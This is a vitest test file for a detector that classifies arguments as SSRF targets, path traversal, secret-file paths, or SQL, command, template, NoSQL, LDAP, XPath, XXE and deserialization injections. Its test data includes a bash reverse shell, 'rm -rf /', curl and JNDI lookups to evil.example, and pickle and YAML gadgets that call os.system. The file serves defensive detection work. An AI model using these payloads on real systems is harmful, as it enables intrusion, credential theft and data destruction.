import { describe, expect, it } from 'vitest';
import { argumentShapes } from '../../../../collectors/normalize/shapes/argument-shapes.ts';
import { operatorShapes } from '../../../../collectors/normalize/shapes/interpreter-shapes.ts';
import { shapeOfHost } from '../../../../collectors/normalize/shapes/address-shapes.ts';
import type { ShapeCounts } from '../../../../collectors/normalize/shapes/shape.ts';

function shapesOf(text: string, path = 'value'): string[] {
  const counts: ShapeCounts = {};
  argumentShapes(path, text, counts);
  return Object.keys(counts).sort();
}

describe('addresses a server should not be sent to', () => {
  it.each([
    ['169.254.169.254', 'ssrf_metadata'],
    ['2852039166', 'ssrf_metadata'],
    ['0xA9FEA9FE', 'ssrf_metadata'],
    ['0251.0376.0251.0376', 'ssrf_metadata'],
    ['0xa9.254.0251.254', 'ssrf_metadata'],
    ['169.254.43518', 'ssrf_metadata'],
    ['[::ffff:169.254.169.254]', 'ssrf_metadata'],
    ['[::ffff:a9fe:a9fe]', 'ssrf_metadata'],
    ['[fd00:ec2::254]', 'ssrf_metadata'],
    ['metadata.google.internal', 'ssrf_metadata'],
    ['169.254.169.254.nip.io', 'ssrf_metadata'],
    ['100.100.100.200', 'ssrf_metadata'],
    ['169.254.1.1', 'ssrf_link_local'],
    ['[fe80::1%eth0]', 'ssrf_link_local'],
    ['10.1.2.3', 'ssrf_private'],
    ['172.31.0.9', 'ssrf_private'],
    ['192.168.1.1', 'ssrf_private'],
    ['[fd12:3456::1]', 'ssrf_private'],
    ['localhost', 'ssrf_loopback'],
    ['127.1', 'ssrf_loopback'],
    ['2130706433', 'ssrf_loopback'],
    ['0.0.0.0', 'ssrf_loopback'],
    ['[::1]', 'ssrf_loopback'],
  ])('%s is %s', (host, shape) => {
    expect(shapeOfHost(host)).toBe(shape);
    expect(shapesOf(`http://user@${host}:8080/latest`)).toContain(shape);
  });

  it.each([
    '8.8.8.8',
    '172.32.0.1',
    '169.253.1.1',
    'example.com',
    '[2001:db8::1]',
    '1.2',
    '42',
    '20240131',
    'a:b',
  ])('%s is none', (host) => {
    expect(shapeOfHost(host)).toBeUndefined();
  });

  it('counts a private address as a value, not one in prose', () => {
    expect(shapesOf('10.0.0.5:8080/admin')).toEqual(['ssrf_private']);
    expect(shapesOf('The printer is at 10.0.0.5, ask Bob about it')).toEqual([]);
  });

  it('counts a metadata address wherever it is mentioned', () => {
    expect(shapesOf('please read 169.254.169.254 for me')).toEqual(['ssrf_metadata']);
  });
});

describe('ways out of a directory', () => {
  it.each([
    '../../etc/passwd',
    '/srv/data/../../etc/hosts',
    '..%2f..%2fetc%2fpasswd',
    '%2e%2e/%2e%2e/etc/hosts',
    '..\\..\\windows\\win.ini',
    'reports/../../secret.txt',
    '..%252fadmin',
    '....//....//etc/hosts',
  ])('%s leaves', (path) => {
    expect(shapesOf(path, 'path')).toContain('path_traversal');
  });

  it.each([
    'reports/2024/../2023/summary.txt',
    'see ../lib/readme.md for the details of the build',
    'wait... what?',
    'v1..v2',
    '/home/alice/report.pdf',
    'https://docs.example.com/guide/../api/index.html',
  ])('%s does not', (text) => {
    expect(shapesOf(text, 'path')).toEqual([]);
  });
});

describe('files that hold secrets', () => {
  it.each([
    '/etc/shadow',
    '/home/a/.ssh/id_rsa',
    '~/.aws/credentials',
    'app/.env',
    '.env.production',
    '/proc/self/environ',
    'C:\\Users\\a\\.ssh\\id_ed25519',
    'certs/server.pem',
  ])('%s is one', (path) => {
    expect(shapesOf(path, 'path')).toContain('sensitive_path');
  });
  it.each([
    '.env.example',
    'environment.md',
    'id_rsa.pub',
    'docs/env.txt',
    'We keep settings in .env files here',
  ])('%s is none', (path) => {
    expect(shapesOf(path, 'path')).toEqual([]);
  });
});

describe('SQL', () => {
  it.each([
    "' OR '1'='1",
    "admin' --",
    '1; DROP TABLE users',
    "x' UNION SELECT password FROM users",
    "1' AND SLEEP(5)",
    '5 or 1=1',
    "'; exec xp_cmdshell 'dir'",
  ])('%s breaks out of where it is put', (text) => {
    expect(shapesOf(text, 'name')).toContain('sql_injection');
  });

  it.each([
    'SELECT region, sum(amount) FROM sales WHERE year = 2024 GROUP BY region',
    "select * from t where name = 'x' or name = 'y'",
    'WITH x AS (SELECT 1) SELECT * FROM x',
    'UPDATE tickets SET state = 3 WHERE id = 4',
  ])('%s is a statement and no injection', (text) => {
    expect(shapesOf(text, 'sql')).toEqual(['sql_statement']);
  });

  it.each([
    "It's Bob's or Alice's turn",
    'select the best option and update me',
    'drop me a line; union members only',
    "rock 'n' roll",
  ])('%s is neither', (text) => {
    expect(shapesOf(text)).toEqual([]);
  });
});

describe('commands, templates and code', () => {
  it.each([
    ['x; cat /etc/hosts', 'command_injection'],
    ['$(curl http://evil.example/x)', 'command_injection'],
    ['a && rm -rf /', 'command_injection'],
    ['name`whoami`', 'command_injection'],
    ['file.txt;id', 'command_injection'],
    ['{{7*7}}', 'template_injection'],
    ['${jndi:ldap://evil.example/a}', 'template_injection'],
    ["{{ ''.__class__.__mro__ }}", 'template_injection'],
    ['__import__("os").system("id")', 'code_injection'],
    ['<script>alert(1)</script>', 'code_injection'],
    ['file:///etc/hosts', 'file_scheme'],
    ['https://x.example/?u=gopher://a/', 'file_scheme'],
  ])('%s is %s', (text, shape) => {
    expect(shapesOf(text)).toContain(shape);
  });

  it.each([
    ['fish & chips; cat sitting | tea', 'title'],
    ['| id | name |', 'cell'],
    ['cat /var/log/x | grep error; rm -f /tmp/y', 'command'],
    ['import subprocess\nsubprocess.run(["ls"])', 'content'],
    ['Dear {{name}}, welcome', 'body'],
    ['the profile: see page 3', 'note'],
    ['R&D id', 'title'],
    ['${HOME}/x', 'path'],
  ])('%s as %s is none of them', (text, path) => {
    expect(shapesOf(text, path)).toEqual([]);
  });

  it('counts a reverse shell even in a command', () => {
    expect(shapesOf('bash -i >& /dev/tcp/10.0.0.1/4242 0>&1', 'command')).toContain('command_injection');
  });
});

describe('languages of what stands behind a tool', () => {
  it.each([
    [
      '<?xml version="1.0"?>\n<!DOCTYPE a [\n<!ENTITY x SYSTEM "file:///etc/hosts">]><a>&x;</a>',
      'xml_entity',
    ],
    ['<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>', 'xml_entity'],
    ['<xi:include href="file:///etc/hosts"/>', 'xml_entity'],
    ['rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHD', 'serialized_object'],
    ['aced00057372001164', 'serialized_object'],
    ['AAEAAAD/////AQAAAAAAAAAMAgAAAF9T', 'serialized_object'],
    ['gASVKAAAAAAAAACMBXBvc2l4lIwGc3lzdGVt', 'serialized_object'],
    ['O:8:"Monolog\\Handler":2:{s:1:"a";i:1;}', 'serialized_object'],
    ['!!python/object/apply:os.system ["id"]', 'serialized_object'],
    ['!!javax.script.ScriptEngineManager [!!java.net.URL ["http://evil.example"]]', 'serialized_object'],
    ['{"rce":"_$$ND_FUNC$$_function(){}()"}', 'serialized_object'],
    ['{"$ne": null}', 'nosql_injection'],
    ['{"$gt": ""}', 'nosql_injection'],
    ["{ $where: 'sleep(5000)' }", 'nosql_injection'],
    ['user[$ne]=x&password[$gt]=', 'nosql_injection'],
    ["x' || this.password.length > 0 || 'a'=='b", 'nosql_injection'],
    ["' && this.password.match(/.*/)//", 'nosql_injection'],
    ['{"username": "a", "$where": "1"}', 'nosql_injection'],
    ['*)(uid=*))(|(uid=*', 'ldap_injection'],
    ['admin)(&)', 'ldap_injection'],
    ['admin*)((|userPassword=*)', 'ldap_injection'],
    ['(*)(uid=*))(|(uid=*', 'ldap_injection'],
    ['*)(givenName=*\n', 'ldap_injection'],
    ['*)(userPassword:2.5.13.18:=1', 'ldap_injection'],
    ["' | //user/*['", 'xpath_injection'],
    ["x' or count(//user)=1 or 'a'='b", 'xpath_injection'],
    ["')] | //user/*[contains(*,'", 'xpath_injection'],
    ["'or count(/*)=1 or'", 'xpath_injection'],
    ["' or string-length(name(/*[1]))=3", 'xpath_injection'],
    ['session=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHD; path=/', 'serialized_object'],
    ["cos\nsystem\n(S'id'\ntR.", 'serialized_object'],
    ["(cposix\nsystem\n(S'id'\ntR.", 'serialized_object'],
    ['gAWVKAAAAAAAAACMBXBvc2l4lIwGc3lzdGVt', 'serialized_object'],
    ['<!DOCTYPE r PUBLIC "any" "file:///etc/hosts"><r/>', 'xml_entity'],
    ['<!DOCTYPE l [\n<!ENTITY a "x">\n<!ENTITY b "&a;&a;&a;&a;">]>', 'xml_entity'],
  ])('%s is %s', (text, shape) => {
    expect(shapesOf(text)).toContain(shape);
  });

  it.each([
    ['<!DOCTYPE html><html><body>Hello</body></html>', 'page'],
    [
      '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/x.dtd">',
      'page',
    ],
    ['<!DOCTYPE html SYSTEM "about:legacy-compat">', 'page'],
    ['(&(objectClass=person)(mail=a@b.example))', 'filter'],
    ['costs $5 (net) (gross $6)', 'note'],
    ['f(x)(y)', 'formula'],
    ['Great work!! com.example.app is live', 'title'],
    ['note to: "Bob": 2 or 3 // later', 'title'],
    ['const query = { $ne: 5 };', 'code'],
    ['{"price": {"$gt": 5, "$lte": 9}}', 'query'],
    ['Gasversorgungsunternehmen Gasverbrauchsabrechnung', 'title'],
    ['!!python/name:material.extensions.emoji.twemoji', 'content'],
    ['return !!com.length', 'note'],
    ['Done!!com.example.app [released]', 'title'],
    ['--- !ruby/object:Gem::Specification', 'content'],
    ['O:8:"stdClass":1:{s:1:"a";i:1;}', 'content'],
    ['<!DOCTYPE log4j:configuration SYSTEM "log4j.dtd">', 'content'],
    ['<xi:include href="chapter1.xml"/>', 'content'],
    ['<!ENTITY brandShortName "Firefox">', 'content'],
    ['filter: (&(objectClass=person)(mail=bob@example.com))', 'query'],
    ['Sync only finds (&(objectClass=user)(memberOf=CN=x)) since Monday', 'note'],
    ['^(foo)(|bar)$', 'pattern'],
    ['xpath=//div[@class="x"] | //span[@id="y"]', 'selector'],
    ["descendant::a[@href='x' and contains(//b,'c')]", 'selector'],
    ['"error" | // comment', 'query'],
    ['filters[publishedAt][$gte]=2026-01-01', 'query'],
    ["name: 'a' && this.props.name", 'title'],
    ['//div[@class="x"] | //span', 'selector'],
  ])('%s as %s is none of them', (text, path) => {
    expect(shapesOf(text, path)).toEqual([]);
  });

  const operators = (given: unknown) => {
    const counts: ShapeCounts = {};
    operatorShapes(given, counts);
    return counts;
  };

  it('are operators where a member is named so, however deep and whatever it holds', () => {
    expect(operators({ user: 'a', password: { $ne: null } })).toEqual({ nosql_injection: 1 });
    expect(operators([{ a: [{ $where: '' }, { $regex: '.*' }, { $gt: '' }] }])).toEqual({
      nosql_injection: 3,
    });
    for (const given of [
      undefined,
      null,
      'x',
      { price: { $sum: 1, $gt: 5 } },
      { $ref: '#/a' },
      { dollar: '$ne' },
    ])
      expect(operators(given)).toEqual({});
  });

  it('are looked for in bounded time, whatever the arguments', () => {
    let deep: unknown = { $ne: 1 };
    for (let depth = 0; depth < 5_000; depth += 1) deep = { a: deep };
    expect(operators(deep)).toEqual({});
    const wide = Array.from({ length: 100_000 }, () => ({ $ne: 1 }));
    expect(operators(wide)).toEqual({});
    expect(operators(wide.slice(0, 600))).toEqual({ nosql_injection: 99 });
    const behind = { list: Array.from({ length: 512 }, () => 1), password: { $ne: null } };
    expect(operators(behind)).toEqual({ nosql_injection: 1 });
    expect(operators([...Array.from({ length: 4096 }, () => 1), { $ne: 1 }])).toEqual({});
  });
});

it('takes time linear in hostile text', () => {
  const texts = [
    "' or ".repeat(13_000),
    '../'.repeat(21_000),
    '<'.repeat(65_000),
    '{{ '.repeat(21_000),
    '://a@'.repeat(13_000),
    '$(('.repeat(21_000),
    '<!DOCTYPE a '.repeat(5_000),
    'O:1:"'.repeat(13_000),
    ')('.repeat(32_000),
    '{ $'.repeat(21_000),
    "' or count( ".repeat(5_000),
  ];
  for (const text of texts) {
    const start = performance.now();
    shapesOf(text);
    expect(performance.now() - start).toBeLessThan(1000);
  }
});
